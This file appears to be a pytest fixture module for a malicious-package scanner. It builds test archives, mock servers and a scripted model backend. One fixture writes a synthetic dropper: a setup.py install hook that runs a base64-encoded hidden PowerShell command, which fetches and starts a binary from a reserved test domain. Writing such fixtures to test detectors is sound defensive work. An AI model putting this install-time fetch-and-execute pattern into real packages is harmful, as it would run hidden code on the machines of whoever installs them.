"""Shared fixtures: archive builders, scripted model scenarios, mock servers."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest

from pkgsleuth.gateway import ScriptedBackend
from pkgsleuth.ingest import extract_archive, resolve_scope
from pkgsleuth.mocknet import MockIntelServer, MockWebServer
from pkgsleuth.tools.web import FetchConfig


def make_tarball(path: Path, files: dict[str, bytes | str]) -> Path:
    with tarfile.open(path, "w:gz") as tf:
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


def make_zip(path: Path, files: dict[str, bytes | str]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            zf.writestr(name, data)
    return path


@pytest.fixture
def tar_builder(tmp_path):
    def build(name: str, files: dict) -> Path:
        return make_tarball(tmp_path / name, files)
    return build


@pytest.fixture
def intel_server():
    with MockIntelServer() as server:
        yield server


@pytest.fixture
def web_server():
    with MockWebServer() as server:
        yield server


@pytest.fixture
def loopback_fetch_config():
    """Fetch config that admits the loopback mock servers (the SSRF guard
    blocks 127.0.0.1 by default)."""
    def build(*servers, **kwargs) -> FetchConfig:
        hosts = frozenset(f"{s.host}:{s.port}" for s in servers)
        return FetchConfig(allow_hosts=hosts, timeout_s=5.0, **kwargs)
    return build


# --- a minimal malicious-pattern fixture package (inert) -------------------------

# Synthetic install-time dropper shape: setup.py feeds a base64-encoded
# command to a shell helper. The encoded command is inert and points at a
# documentation-reserved domain.
STAGED_COMMAND = ("powershell -win hidden $u='https://dl.example-files.test"
                  "/pkg/updater.bin'; fetch $u; start updater.bin")


def staged_command_b64() -> str:
    import base64
    return base64.b64encode(STAGED_COMMAND.encode()).decode()


def dropper_setup_py() -> str:
    encoded = staged_command_b64()
    return f'''import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        cmd = "{encoded}"
        subprocess.run(["powershell", "-EncodedCommand", cmd], check=False)


setup(name="libdemo", version="7.3", cmdclass={{"install": PostInstall}})
'''


@pytest.fixture
def dropper_archive(tmp_path):
    return make_tarball(tmp_path / "libdemo-7.3.tar.gz", {
        "libdemo-7.3/setup.py": dropper_setup_py(),
        "libdemo-7.3/libdemo/__init__.py": "VERSION = '7.3'\n",
    })


@pytest.fixture
def dropper_scope(dropper_archive):
    return resolve_scope(extract_archive(dropper_archive))


def scripted_backend_from(entries: list[dict]) -> ScriptedBackend:
    backend = ScriptedBackend()
    for entry in entries:
        response = entry["response"]
        if not isinstance(response, str):
            response = json.dumps(response)
        backend.add(response, role=entry.get("role"),
                    match=entry.get("match"), repeat=entry.get("repeat", False),
                    delay=entry.get("delay", 0.0))
    return backend
